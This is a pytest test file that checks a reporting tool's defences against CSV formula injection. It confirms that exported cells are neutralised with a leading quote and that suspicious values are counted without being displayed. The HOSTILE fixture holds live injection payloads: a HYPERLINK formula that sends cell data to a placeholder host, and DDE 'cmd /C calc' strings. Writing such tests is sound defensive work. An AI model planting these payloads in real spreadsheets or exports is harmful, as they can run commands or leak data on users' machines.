"""CSV outputs cannot run formulas in a spreadsheet (issue 11, OWASP CSV injection)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sendreport.csvsafe import FORMULA_STARTS, neutralise, safe_for_spreadsheets, suspicious_codes
from sendreport.pack import Pack
from sendreport.params import parse_params
from sendreport.synth import write_synthetic

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "equipment": '=HYPERLINK("http://example.invalid/?"&A1,"details")',
    "physiotherapy": "+cmd|' /C calc'!A0",
    "audiology": "@SUM(1+1)*cmd|' /C calc'!A0",
    "occupational_therapy": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("hostile")
    write_synthetic(data)
    referrals = pd.read_csv(data / "referrals.csv", dtype=str, keep_default_na=False)
    referrals["service"] = referrals["service"].replace(HOSTILE)
    referrals.to_csv(data / "referrals.csv", index=False)
    params = parse_params(
        {
            "notebook": str(ROOT / "notebooks" / "stocktake.ipynb"),
            "area_name": "Demoshire",
            "period_start": "2024-07-01",
            "period_end": "2024-12-31",
            "plan": str(ROOT / "params" / "plans" / "demoshire-pap.yaml"),
            "data": {t: str(data / f"{t}.csv") for t in ("requests", "referrals")},
        }
    )
    out = tmp_path_factory.mktemp("out")
    Pack.from_params(params).write_tables(out)
    shutil.copy(data / "referrals.csv", out / "input-referrals.csv")
    return out


@pytest.mark.parametrize("name", ["kpis.csv", "kpi_series.csv", "data_quality.csv"])
def test_no_cell_of_an_output_starts_a_formula(written, name):
    with (written / name).open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells
    # a number such as -2.39 (a lower process limit) is a number in a spreadsheet, not a formula
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_hostile_services_are_kept_as_text_behind_a_quote(written):
    kpis = pd.read_csv(written / "kpis.csv", dtype=str, keep_default_na=False)
    services = set(kpis["service"])
    assert {"'" + value for value in HOSTILE.values()} <= services
    series = pd.read_csv(written / "kpi_series.csv", dtype=str, keep_default_na=False)
    assert "'" + HOSTILE["physiotherapy"] in set(series["service"])


def test_numbers_keep_their_sign_and_value(written):
    kpis = pd.read_csv(written / "kpis.csv")
    assert pd.api.types.is_float_dtype(kpis["value"])
    frame = pd.DataFrame({"service": ["-1"], "value": [-1.25], "n": pd.array([-3], "Int64")})
    out = safe_for_spreadsheets(frame)
    assert out["value"].tolist() == [-1.25] and out["n"].tolist() == [-3]
    assert out["service"].tolist() == ["'-1"]


@given(st.text(min_size=1))
def test_neutralised_text_never_starts_a_formula_and_keeps_its_content(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


def test_suspicious_free_text_codes_are_counted_not_shown():
    found = suspicious_codes([*HOSTILE.values(), "Amelia Smith", "Speech Therapy", "audiology"])
    assert found == {"formula": 4, "name": 1}


def test_validate_reports_formula_and_name_like_services_without_showing_them(tmp_path):
    import subprocess
    import sys
    import textwrap

    write_synthetic(tmp_path)
    referrals = pd.read_csv(tmp_path / "referrals.csv", dtype=str, keep_default_na=False)
    referrals["service"] = referrals["service"].replace({**HOSTILE, "audiology": "Amelia Smith"})
    referrals.to_csv(tmp_path / "referrals.csv", index=False)
    (tmp_path / "params.yaml").write_text(
        textwrap.dedent(
            f"""\
            notebook: {ROOT / "notebooks" / "stocktake.ipynb"}
            area_name: Demoshire
            period_start: 2024-07-01
            period_end: 2024-12-31
            plan: {ROOT / "params" / "plans" / "demoshire-pap.yaml"}
            data:
              referrals: referrals.csv
            """
        )
    )
    result = subprocess.run(
        [Path(sys.executable).parent / "sendreport", "validate", tmp_path / "params.yaml"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert (
        "referrals.service: 3 values look like a spreadsheet formula, 1 value looks like a name"
        in out
    )
    assert "Amelia" not in out and "HYPERLINK" not in out
